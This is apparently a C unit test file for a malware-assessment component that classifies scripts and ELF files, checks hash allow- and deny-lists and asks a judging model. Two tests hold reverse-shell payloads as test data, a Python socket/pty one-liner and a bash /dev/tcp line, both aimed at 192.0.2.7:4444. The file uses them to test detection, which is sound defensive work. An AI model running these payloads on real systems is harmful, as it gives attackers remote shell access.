#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <fcntl.h>
#include <string.h>
#include <sys/stat.h>

#include <cmocka.h>

#include "classify/assess.h"
#include "elf_builder.h"
#include "judge_model.h"

static const char script[] = "#!/usr/bin/env python3\nprint('hello')\n";

static int
begin_test(void **state)
{
	struct lw_assessor *a = calloc(1, sizeof(*a));

	*state = a;
	return lw_assessor_init(a);
}

static int
end_test(void **state)
{
	lw_assessor_done(*state);
	free(*state);
	return 0;
}

/* Adds a list that holds the digest of these bytes. */
static void
add_list(struct lw_assessor *a, const char *name, enum lw_verdict verdict, const void *bytes,
	size_t length)
{
	char input[] = "/tmp/lw-assess-input-XXXXXX", output[] = "/tmp/lw-assess-list-XXXXXX";
	_cleanup_close_ int in = mkostemp(input, O_CLOEXEC), out = mkostemp(output, O_CLOEXEC);
	_cleanup_text_ struct lw_text errors;
	struct lw_hashset_counts counts;
	const char *inputs[] = {input};
	uint8_t digest[LW_SHA256_SIZE];
	char hex[65];

	lw_text_init(&errors, 4096);
	assert_int_equal(lw_sha256_of(bytes, length, digest), 0);
	lw_hex(hex, digest, sizeof(digest));
	assert_int_equal(lw_write_full(in, hex, 64), 0);
	assert_int_equal(lw_hashset_build(inputs, 1, "file", output, &errors, &counts), 0);

	_cleanup_close_ int fd = open(output, O_RDONLY | O_CLOEXEC);
	assert_int_equal(lw_lists_add(&a->lists, name, verdict, fd), 0);
	unlink(input);
	unlink(output);
}

static void
assess_bytes(struct lw_assessor *a, const struct lw_msg_assess *request, const void *bytes,
	size_t length, struct lw_assessment *out)
{
	_cleanup_close_ int fd = lw_memfd_with("content", bytes, length);

	lw_assess(a, request, fd, -1, out);
}

static void
a_script_is_described(void **state)
{
	struct lw_msg_assess request = {.flags = LW_ASSESS_WANT_CAPTURE, .capture_max = 65536};
	_cleanup_close_ int fd = lw_memfd_with("content", script, sizeof(script) - 1);
	_cleanup_close_ int capture = lw_memfd("capture");
	struct lw_assessment out;

	lw_assess(*state, &request, fd, capture, &out);
	assert_int_equal(out.flags, LW_ASSESS_HASHED);
	assert_int_equal(out.verdict, LW_VERDICT_UNKNOWN);
	assert_int_equal(out.format, LW_FORMAT_SHEBANG);
	assert_int_equal(out.language, LW_LANGUAGE_PYTHON);
	assert_int_equal(out.size, sizeof(script) - 1);
	assert_int_equal(out.captured_size, sizeof(script) - 1);
	assert_string_equal(out.interpreter, "/usr/bin/env");
	assert_string_equal(out.interpreter_arg, "python3");
	assert_memory_equal(out.sha256, out.captured_sha256, LW_SHA256_SIZE);
}

static void
capture_of_scripts_alone(void **state)
{
	uint8_t elf[ELF_BUILT_SIZE];
	const struct {
		const void *bytes;
		size_t length;
		uint32_t flags;
		bool captured;
	} rows[] = {
		{script, sizeof(script) - 1, LW_ASSESS_CAPTURE_SCRIPTS, true},
		{"echo text\n", 10, LW_ASSESS_CAPTURE_SCRIPTS | LW_ASSESS_WANT_CAPTURE, true},
		{elf, sizeof(elf), LW_ASSESS_CAPTURE_SCRIPTS | LW_ASSESS_WANT_CAPTURE, false},
		{elf, sizeof(elf), LW_ASSESS_WANT_CAPTURE, true},
		{"\0\1\2", 3, LW_ASSESS_CAPTURE_SCRIPTS, false},
		{"\0\1\2", 3, LW_ASSESS_CAPTURE_SCRIPTS | LW_ASSESS_AS_SCRIPT, true},
		{script, sizeof(script) - 1, 0, false},
	};

	elf_build(&(struct elf_recipe){.type = 2}, elf);
	for (size_t i = 0; i < LW_ARRAY_SIZE(rows); i++) {
		struct lw_msg_assess request = {.flags = rows[i].flags, .capture_max = 4096};
		_cleanup_close_ int fd = lw_memfd_with("content", rows[i].bytes, rows[i].length);
		_cleanup_close_ int capture = lw_memfd("capture");
		struct lw_assessment out;

		lw_assess(*state, &request, fd, capture, &out);
		assert_int_equal(out.captured_size, rows[i].captured ? rows[i].length : 0);
	}
}

static void
the_language_that_is_asked_for_counts(void **state)
{
	struct lw_msg_assess request = {
		.flags = LW_ASSESS_AS_SCRIPT, .language = LW_LANGUAGE_SHELL};
	struct lw_assessment out;

	assess_bytes(*state, &request, script, sizeof(script) - 1, &out);
	assert_int_equal(out.language, LW_LANGUAGE_SHELL);
	request.language = 250;
	assess_bytes(*state, &request, script, sizeof(script) - 1, &out);
	assert_int_equal(out.language, LW_LANGUAGE_PYTHON);
}

static void
elf_facts_become_flags(void **state)
{
	struct lw_msg_assess request = {.name = "python3.11"};
	uint8_t elf[ELF_BUILT_SIZE];
	struct lw_assessment out;

	elf_build(&(struct elf_recipe){.interp = "/lib/ld.so"}, elf);
	assess_bytes(*state, &request, elf, sizeof(elf), &out);
	assert_int_equal(out.format, LW_FORMAT_ELF);
	assert_int_equal(
		out.flags, LW_ASSESS_HASHED | LW_ASSESS_ELF_INTERP | LW_ASSESS_INTERPRETER);
	assert_string_equal(out.interpreter, "/lib/ld.so");
	memset(request.name, 'x', sizeof(request.name)); /* no NUL */
	elf_build(&(struct elf_recipe){.dynamic = true, .soname = "ld.so.1"}, elf);
	assess_bytes(*state, &request, elf, sizeof(elf), &out);
	assert_int_equal(
		out.flags, LW_ASSESS_HASHED | LW_ASSESS_ELF_LOADER | LW_ASSESS_ELF_LIBRARY);
	elf[32 + 7] = 0xff;
	assess_bytes(*state, &request, elf, sizeof(elf), &out);
	assert_true(out.flags & LW_ASSESS_ELF_BAD);
}

static void
lists_decide(void **state)
{
	struct lw_assessor *a = *state;
	struct lw_msg_assess request = {0};
	struct lw_assessment out;

	add_list(a, "good", LW_VERDICT_TRUSTED, "good", 4);
	add_list(a, "bad", LW_VERDICT_MALICIOUS, "evil", 4);
	assess_bytes(a, &request, "good", 4, &out);
	assert_int_equal(out.verdict, LW_VERDICT_TRUSTED);
	assert_int_equal(out.reason_count, 1);
	assert_string_equal(out.reasons[0], "hash list: good, of today");
	assert_true(out.score == 0.0f);
	assess_bytes(a, &request, "evil", 4, &out);
	assert_int_equal(out.verdict, LW_VERDICT_MALICIOUS);
	assert_string_equal(out.hash_list, "bad");
	assert_true(out.score == 1.0f);
	assess_bytes(a, &request, "other", 5, &out);
	assert_int_equal(out.verdict, LW_VERDICT_UNKNOWN);
	assert_int_equal(out.reason_count, 0);
	assert_string_equal(out.hash_list, "");
}

static void
malicious_wins_over_trusted(void **state)
{
	struct lw_assessor *a = *state;
	struct lw_msg_assess request = {0};
	struct lw_assessment out;

	add_list(a, "good", LW_VERDICT_TRUSTED, "both", 4);
	for (int i = 0; i < LW_REASONS_MAX + 1; i++) {
		char name[LW_HASHSET_NAME_SIZE] = "";

		memset(name, 'a' + i, sizeof(name) - 1);
		add_list(a, name, LW_VERDICT_MALICIOUS, "both", 4);
	}
	assess_bytes(a, &request, "both", 4, &out);
	assert_int_equal(out.verdict, LW_VERDICT_MALICIOUS);
	assert_int_equal(out.reason_count, LW_REASONS_MAX);
	assert_int_equal(out.hash_list[0], 'a');
	assert_memory_equal(&out.reasons[3][11 + LW_HASHSET_NAME_SIZE - 1], ", of", 4);
	assert_int_equal(out.reasons[3][11], 'd');
}

/* What a finding shows as script.sha256 can be put on a list as it is. */
static void
the_captured_bytes_are_looked_up_too(void **state)
{
	struct lw_assessor *a = *state;
	struct lw_msg_assess request = {.flags = LW_ASSESS_WANT_CAPTURE, .capture_max = 9};
	_cleanup_close_ int fd = lw_memfd_with("content", "echo evil # padding", 19);
	_cleanup_close_ int capture = lw_memfd("capture");
	struct lw_assessment out;

	add_list(a, "bad", LW_VERDICT_MALICIOUS, "echo evil", 9);
	add_list(a, "good", LW_VERDICT_TRUSTED, "echo evil", 9);
	lw_assess(a, &request, fd, capture, &out);
	assert_int_equal(out.verdict, LW_VERDICT_MALICIOUS);
	assert_true(out.flags & LW_ASSESS_TRUNCATED);
}

static void
the_beginning_of_a_file_never_makes_it_trusted(void **state)
{
	struct lw_assessor *a = *state;
	struct lw_msg_assess request = {0};
	struct lw_assessment out;

	add_list(a, "good", LW_VERDICT_TRUSTED, "good", 4);
	a->hash_bytes = 4;
	assess_bytes(a, &request, "good, and then something else", 29, &out);
	assert_int_equal(out.verdict, LW_VERDICT_UNKNOWN);
	assert_true(out.flags & LW_ASSESS_PARTIAL);
	add_list(a, "bad", LW_VERDICT_MALICIOUS, "good", 4);
	assess_bytes(a, &request, "good, and then something else", 29, &out);
	assert_int_equal(out.verdict, LW_VERDICT_MALICIOUS);
}

/* The bug: who wrote a trusted script into a pipe, and waited, had it run whatever came then. */
static void
what_more_may_follow_is_never_trusted(void **state)
{
	struct lw_assessor *a = *state;
	struct lw_msg_assess request = {.flags = LW_ASSESS_AS_SCRIPT | LW_ASSESS_INCOMPLETE};
	struct lw_assessment out;

	add_list(a, "good", LW_VERDICT_TRUSTED, "good", 4);
	assess_bytes(a, &request, "good", 4, &out);
	assert_int_equal(out.verdict, LW_VERDICT_UNKNOWN);
	add_list(a, "bad", LW_VERDICT_MALICIOUS, "good", 4);
	assess_bytes(a, &request, "good", 4, &out);
	assert_int_equal(out.verdict, LW_VERDICT_MALICIOUS);
}

/* A model, and what would only be a question for it, count for nothing on a trusted file. */
static void
a_script_is_judged_by_the_model(void **state)
{
	static const char code[] = "import socket,os,pty;s=socket.socket();s.connect(('192.0.2.7',"
				   "4444));[os.dup2(s.fileno(),n) for n in (0,1,2)];"
				   "pty.spawn('/bin/sh')";
	struct lw_msg_assess request = {
		.flags = LW_ASSESS_AS_SCRIPT, .language = LW_LANGUAGE_PYTHON};
	struct lw_assessor *a = *state;
	struct lw_assessment out;

	a->model = judge_model_open();
	assess_bytes(a, &request, code, sizeof(code) - 1, &out);
	assert_int_equal(out.verdict, LW_VERDICT_MALICIOUS);
	assert_string_equal(out.model, lw_model_name(a->model));
	assert_true(out.score > 0.9f);
	assert_non_null(strstr(out.reasons[0], "socket"));
	assess_bytes(a, &request, script, sizeof(script) - 1, &out);
	assert_int_equal(out.verdict, LW_VERDICT_UNKNOWN);
	assert_int_equal(out.reason_count, 0);
	add_list(a, "ours", LW_VERDICT_TRUSTED, code, sizeof(code) - 1);
	assess_bytes(a, &request, code, sizeof(code) - 1, &out);
	assert_int_equal(out.verdict, LW_VERDICT_TRUSTED);
	assert_string_equal(out.model, "");
	add_list(a, "bad", LW_VERDICT_MALICIOUS, code, sizeof(code) - 1);
	assess_bytes(a, &request, code, sizeof(code) - 1, &out);
	assert_int_equal(strncmp(out.reasons[0], "hash list: bad", 14), 0);
	assert_int_equal(strncmp(out.reasons[1], "model ", 6), 0);
}

/* Of a file far longer than what is kept: its end is judged, not what lay there before. */
static void
the_end_of_a_huge_script_is_judged(void **state)
{
	static const char end[] = "\nbash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n";
	const size_t sizes[] = {LW_CONTENT_TEXT_MAX - 1, LW_CONTENT_TEXT_MAX + 1,
		LW_CONTENT_TEXT_MAX + LW_CONTENT_TEXT_TAIL / 2, 3 * LW_CONTENT_TEXT_MAX};
	struct lw_msg_assess request = {
		.flags = LW_ASSESS_AS_SCRIPT, .language = LW_LANGUAGE_SHELL};
	struct lw_assessor *a = *state;
	struct lw_assessment out;

	a->model = judge_model_open();
	for (size_t i = 0; i < LW_ARRAY_SIZE(sizes); i++) {
		_cleanup_free_ char *text = malloc(sizes[i]);

		for (size_t k = 0; k < sizes[i]; k++)
			text[k] = "echo fine\n"[k % 10];
		assess_bytes(a, &request, text, sizes[i], &out);
		assert_true(out.verdict < LW_VERDICT_MALICIOUS);
		memcpy(&text[sizes[i] - sizeof(end)], end, sizeof(end) - 1);
		assess_bytes(a, &request, text, sizes[i], &out);
		assert_int_equal(
			a->content.text_length, LW_MIN(sizes[i], (size_t)LW_CONTENT_TEXT_MAX));
		assert_memory_equal(&a->content.text[a->content.text_length - sizeof(end)], end,
			sizeof(end) - 1);
		assert_int_equal(out.verdict, LW_VERDICT_MALICIOUS);
	}
}

static void
what_cannot_be_read_says_so(void **state)
{
	struct lw_msg_assess request = {.language = LW_LANGUAGE_PERL};
	struct lw_assessment out;
	int fifo[2];

	assert_int_equal(pipe2(fifo, O_CLOEXEC), 0);
	lw_assess(*state, &request, fifo[0], -1, &out);
	assert_int_equal(out.flags, LW_ASSESS_UNREADABLE);
	assert_int_equal(out.format, LW_FORMAT_UNKNOWN);
	assert_int_equal(out.language, LW_LANGUAGE_PERL);
	lw_assess(*state, &request, -1, -1, &out);
	assert_int_equal(out.flags, LW_ASSESS_UNREADABLE);
	close(fifo[0]);
	close(fifo[1]);
}

int
main(void)
{
#define TEST(f) cmocka_unit_test_setup_teardown(f, begin_test, end_test)
	const struct CMUnitTest tests[] = {
		TEST(a_script_is_described),
		TEST(capture_of_scripts_alone),
		TEST(the_language_that_is_asked_for_counts),
		TEST(elf_facts_become_flags),
		TEST(lists_decide),
		TEST(malicious_wins_over_trusted),
		TEST(the_captured_bytes_are_looked_up_too),
		TEST(the_beginning_of_a_file_never_makes_it_trusted),
		TEST(what_more_may_follow_is_never_trusted),
		TEST(a_script_is_judged_by_the_model),
		TEST(the_end_of_a_huge_script_is_judged),
		TEST(what_cannot_be_read_says_so),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
